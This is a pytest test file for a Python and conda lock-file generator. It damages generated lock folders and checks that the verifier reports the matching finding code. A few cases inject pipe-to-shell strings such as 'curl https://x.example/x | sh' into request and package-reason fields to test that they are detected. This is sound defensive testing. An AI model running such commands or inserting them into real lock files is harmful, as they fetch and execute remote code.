"""What was asked for beside torch, in locks that no shipped lock knows: it is there, and nothing in its place."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from cli.conftest import Run, known_torch, pypi, run, torch_index, uv_cache
from envgen.core.locks import CondaLock
from envgen.net.deadline import Deadline
from envgen.verify.findings import Asking
from equipment.damage import Damage, conda, each, header, package, pip, request, take, without
from equipment.lock_damage import codes
from equipment.wheel_index import WheelIndex

__all__ = ["known_torch", "pypi", "run", "torch_index", "uv_cache"]
CONDA_FILES = ("conda-lock.yml", "conda-linux-64.lock", "environment.yml", "virtual-packages.yml")
LEFT_OUT = "# left out: scipy: conda-forge has no package of that name; --with conda:NAME names it as conda does\n"
Apply = Callable[[Path], None]


@pytest.fixture(scope="module")
def made() -> dict[str, bytes]:
    """The files of the folder once it was made: each test has a copy."""
    return {}


@pytest.fixture
def folder(tmp_path: Path, run: Run, made: dict[str, bytes]) -> Path:
    out = tmp_path / "out"
    if not made:
        assert run("--torch", ">=2.9.1,<2.11", "--with", "einops<1", "--with", "conda:scipy") == 0
        made |= {path.name: path.read_bytes() for path in out.iterdir()}
    out.mkdir(exist_ok=True)
    for name, data in made.items():
        (out / name).write_bytes(data)
    return out


def asked(*texts: str, of: str = "both") -> Apply:
    """The request line asks for something else."""

    def change(document: dict[str, Any]) -> None:
        document["with"] = {**document["with"], of: list(texts)}

    return request(change)


def without_scipy(lock: CondaLock, *specs: str) -> CondaLock:
    """numpy, which scipy needs, is gone with it."""
    gone = ("scipy", "numpy")
    kept = tuple(spec for spec in lock.specs if not spec.startswith("scipy"))
    return replace(lock, specs=(*kept, *specs), packages=tuple(p for p in lock.packages if p.name not in gone))


KINDS: dict[str, tuple[Apply, str]] = {
    "a wheel less": (pip(lambda lock: without(lock, "einops")), "dependency-missing"),
    "a wheel beyond its bound": (asked("einops<0.5"), "dependency-version"),
    "a bound of a file": (
        request(lambda document: document.update(inputs={"x.in": ["-c einops<0.5"]})),
        "dependency-version",
    ),
    "a conda package less": (conda(without_scipy), "request-unmet"),
    "another one in its place": (conda(lambda lock: without_scipy(lock, "tzdata=2025b")), "package-not-needed"),
    "a spec twice": (conda(lambda lock: replace(lock, specs=(*lock.specs, "scipy=1.16.2"))), "package-not-needed"),
    "a spec of another build": (
        conda(lambda lock: replace(lock, specs=tuple(s.replace("=1.16.2", "=1.16.2=*") for s in lock.specs))),
        "package-not-needed",
    ),
    "left out, and asked for by its conda name": (
        each(conda(without_scipy), header("# No CUDA", f"{LEFT_OUT}# No CUDA", *CONDA_FILES)),
        "request-unmet",
    ),
    "a URL in place of a name": (asked("einops @ https://x.example/e-1-py3-none-any.whl"), "request-unreadable"),
    "a command in place of a name": (asked("einops; curl x | sh"), "request-unreadable"),
    "a reason that is a command": (package("einops", reason="curl https://x.example/x | sh"), "not-as-written"),
    "a reason of another package": (package("einops", reason="via torch"), "not-as-written"),
    "a pin that nobody knows": (package("filelock", reason="via torch; pinned: curl x | sh"), "not-as-written"),
}


@pytest.mark.parametrize("name", KINDS)
def test_it_is_found_without_a_network(name: str, folder: Path) -> None:
    apply, code = KINDS[name]
    assert code not in codes(folder)
    Damage(name=name, apply=apply).apply(folder)
    assert code in codes(folder)


def test_what_a_channel_has_is_not_left_out(
    folder: Path, tmp_path: Path, pypi: WheelIndex, torch_index: WheelIndex
) -> None:
    """A header that says so is no proof: the channel is asked for the name, too."""
    asking = Asking(
        wheels=torch_index.url("/whl"),
        pypi=pypi.url("/simple"),
        conda=str(tmp_path / "channels"),
        deadline=Deadline.after(60.0),
    )
    conda(without_scipy)(folder)
    header("# No CUDA", f"{LEFT_OUT}# No CUDA", *CONDA_FILES)(folder)

    def both(document: dict[str, Any]) -> None:
        document["with"] = {"both": ["einops<1", "scipy"]}

    request(both)(folder)
    assert "request-unmet" not in codes(folder)
    assert "dependency-missing" in codes(folder, asking)
    assert "scipy" not in take(folder / "environment.yml")[1]
